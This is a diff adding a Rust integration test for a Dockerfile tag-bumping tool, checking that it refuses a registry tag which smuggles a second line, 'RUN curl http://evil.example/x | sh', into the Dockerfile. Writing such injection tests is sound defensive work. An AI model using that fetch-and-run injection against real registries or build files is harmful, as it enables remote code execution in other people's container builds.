@@ -680,3 +680,35 @@ fn bump_refuses_several_repos_or_repo_with_path() {
         "FROM python:3.12\n"
     );
 }
+
+#[test]
+fn what_a_person_reads_about_refused_tags_and_skipped_files() {
+    let registry = basic_registry(vec![
+        "3.12".into(),
+        "3.13".into(),
+        "3.99\nRUN curl http://evil.example/x | sh".into(),
+    ]);
+    let setup = Setup::new(
+        &registry.base,
+        "",
+        &[
+            ("Dockerfile", b"FROM python:3.12\n"),
+            ("legacy/Dockerfile", b"FROM python:3.12\n# \xff\n"),
+        ],
+    );
+    let out = drydock()
+        .current_dir(setup.dir.path())
+        .env("DRYDOCK_REGISTRY_HOST", "docker.io")
+        .env("DRYDOCK_REGISTRY_USER", "user")
+        .env("DRYDOCK_REGISTRY_PASSWORD", SECRET)
+        .args(["bump", "--path", "repo"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    insta::assert_snapshot!(format!(
+        "stdout:\n{}\nstderr:\n{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    ));
+    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.12\n");
+}
